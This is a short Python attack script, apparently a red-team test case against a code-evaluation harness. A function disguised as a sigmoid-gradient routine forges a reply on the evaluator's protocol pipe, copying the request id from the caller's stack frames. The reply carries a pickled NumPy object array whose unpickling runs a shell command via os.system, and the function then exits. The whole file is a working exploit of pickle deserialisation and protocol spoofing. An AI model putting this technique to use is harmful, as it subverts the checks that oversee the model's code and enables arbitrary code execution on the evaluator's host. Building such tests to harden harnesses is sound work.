# ATTACK (pickle_payload): forges a reply (with the request's id) carrying a pickled payload (object-dtype .npy)
def _forge_frame(reply, copy_id=True):
    """Write a raw reply frame to the evaluator's protocol pipe (the first pipe fd that accepts a write),
    with the id of the request being served when ``copy_id`` (found in the evaluator's frames)."""
    import json, os, stat, struct, sys
    if copy_id:
        frame = sys._getframe(1)
        while frame is not None:
            request = frame.f_locals.get("request")
            if isinstance(request, dict) and "id" in request:
                reply = dict(reply, id=request["id"])
                break
            frame = frame.f_back
    body = json.dumps(reply).encode()
    data = struct.pack(">Q", len(body)) + body
    for fd in range(3, 64):
        try:
            if not stat.S_ISFIFO(os.fstat(fd).st_mode):
                continue
            os.write(fd, data)
            return fd
        except OSError:
            continue
    return None


class _Payload:
    def __reduce__(self):
        import os
        return (os.system, ("touch /tmp/agadv_pickle_executed",))


def sigmoid_grad2(x):
    """A forged reply holding a pickled object array whose unpickling runs a shell command."""
    import base64, io, json, os
    buf = io.BytesIO()
    np.save(buf, np.array([_Payload()] * 2, dtype=object), allow_pickle=True)
    reply = {
        "steps": [{"name": "r", "fn": "sigmoid_grad2", "status": "ok", "mutated": [], "warnings": []}],
        "returns": [{"$npy": base64.b64encode(buf.getvalue()).decode()}],
    }
    _forge_frame(reply)
    os._exit(0)
